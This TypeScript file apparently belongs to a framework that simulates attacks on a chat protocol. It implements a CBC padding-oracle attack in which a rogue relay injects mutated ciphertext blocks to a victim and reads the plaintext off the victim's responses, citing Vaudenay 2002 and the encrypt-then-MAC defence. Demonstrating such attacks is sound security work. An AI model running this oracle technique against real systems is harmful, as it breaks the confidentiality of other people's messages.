/**
 * A rogue server sends Alice mutated blocks of Bob's ciphertext and watches how her program answers. Of all mutations
 * of one byte only one leaves a padding that is in order; the answer to it differs, and tells the byte. It works where
 * a receiver decrypts CBC before it has authenticated and lets the difference show, by an error or by a silence.
 * Encrypt-then-MAC with the MAC checked first (Fernet) stops it. Vaudenay, EUROCRYPT 2002; CWE-649, CWE-209.
 */
import { encodeFrame, type MessageFrame } from '../../src/chat/wire.js';
import {
  type Adversary,
  type Capabilities,
  defineAttack,
  type Tactic,
  type Tools,
} from '../../src/model/attack.js';
import { cipherIn, recipher } from '../envelope.js';
import { messageBytes, messageOf, withUnknown } from '../message.js';
import { Answers, type Ask, blocksOf, isDigit, paddingOf, possible, solve } from './oracle.js';

const BLOCK = 16;
/** Beyond any place in an honest stream. */
const FIRST_QUERY = 1000;

function oracle(
  { inject }: Capabilities['relay'],
  { wire, secret, members, settle, did, random }: Tools,
): Adversary {
  const victim = members.find((member) => member !== secret?.author)!;
  const answers = new Answers();
  let captured: MessageFrame | null = null;
  let clear: string | null = null;
  let seq = FIRST_QUERY;

  const ask: Ask = async (asked) => {
    const numbers = asked.map(({ block, query }) => {
      const body = recipher(
        wire,
        captured!.body,
        new Map([
          ['iv', query.iv],
          ['body', block],
        ]),
      );
      inject(
        victim,
        encodeFrame({ ...captured!, header: { ...captured!.header, seq: ++seq }, body: body ?? '' }),
      );
      return seq;
    });
    await settle();
    return numbers.map((number) => answers.to(number));
  };

  const decrypt = async (): Promise<string | null> => {
    const cipher = captured && cipherIn(wire, captured.body);
    if (!cipher || !secret) return null;
    const [iv, body] = [cipher.fields.get('iv')!, cipher.fields.get('body')!];
    const blocks = blocksOf(iv, body);
    // What stands before the words may have any length: they end where the padding begins.
    const before = cipher.fixed
      ? cipher.before
      : body.length - (await paddingOf(blocks.at(-1)!, ask)) - messageBytes(withUnknown(secret)).length;
    if (before < 0) return null;
    const may = possible(before, secret, body.length);
    let digits = '';
    for (const [index, block] of blocks.entries()) {
      const places = may.slice(index * BLOCK, (index + 1) * BLOCK);
      if (!places.some(isDigit)) continue;
      const solved = await solve({ ...block, may: places }, ask);
      if (!solved) return null;
      const shown = places
        .slice(BLOCK - solved.length)
        .map((bytes, at) => (isDigit(bytes) ? solved[at]! : []));
      digits += String.fromCharCode(...shown.flat());
    }
    return digits;
  };

  return {
    forward: ({ from, bytes }) => {
      if (secret) captured ??= messageOf(bytes, secret);
      return from === victim && answers.heard(bytes) ? { do: 'drop' } : { do: 'forward' };
    },
    end: async () => {
      clear = await decrypt();
      did(`has asked ${victim} about ${seq - FIRST_QUERY} mutated blocks`);
    },
    guess: () => clear ?? Buffer.from(random((secret?.length ?? 0) / 2)).toString('hex'),
  };
}

export default defineAttack<'relay', Tactic>({
  id: 'crypto/padding-oracle',
  title: 'The server reads a message off the answers to mutated copies',
  position: 'relay',
  property: 'confidentiality',
  needs: ['CBC padding'],
  against: 'encryption-cbc',
  alarms: [],
  cwe: [649, 209],
  sources: ['Vaudenay, Security Flaws Induced by CBC Padding, EUROCRYPT 2002'],
  tactics: () => [{ id: 'mutate', does: 'sends a member mutated blocks and watches the answers' }],
  adversary: (relay, _, tools) => oracle(relay, tools),
});
